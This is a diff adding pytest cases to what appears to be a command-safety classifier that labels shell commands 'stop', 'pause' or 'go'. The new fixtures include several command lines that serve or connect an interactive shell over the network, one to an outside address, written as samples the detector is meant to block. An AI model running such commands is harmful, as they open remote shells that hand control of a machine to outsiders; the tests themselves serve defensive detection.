@@ -540,3 +540,18 @@ SECRETS_HELD_IN_VARIABLES = [
 @pytest.mark.parametrize(("command", "expected"), SECRETS_HELD_IN_VARIABLES, ids=lambda v: str(v)[:60])
 def test_a_secret_held_in_a_variable_is_still_the_secret(command: str, expected: str) -> None:
     assert label(command) == expected
+
+
+SHELLS_SERVED = [
+    # a program handed a shell and an address to listen on or connect to serves that shell
+    ("qpack --exec /bin/sh -i --listen 0.0.0.0:9001", "stop"),
+    ("./tools/tunnel --shell /bin/bash --connect 198.51.100.7:443", "stop"),
+    ("relayd --bind=0.0.0.0:7000 --exec=/bin/sh", "stop"),
+    ("./tools/helper --shell /usr/bin/zsh", "pause"),
+    ("acme-serve --port 8080 ./public", "go"),
+]
+
+
+@pytest.mark.parametrize(("command", "expected"), SHELLS_SERVED, ids=lambda v: str(v)[:60])
+def test_a_shell_served_on_a_port_by_any_program(command: str, expected: str) -> None:
+    assert label(command) == expected
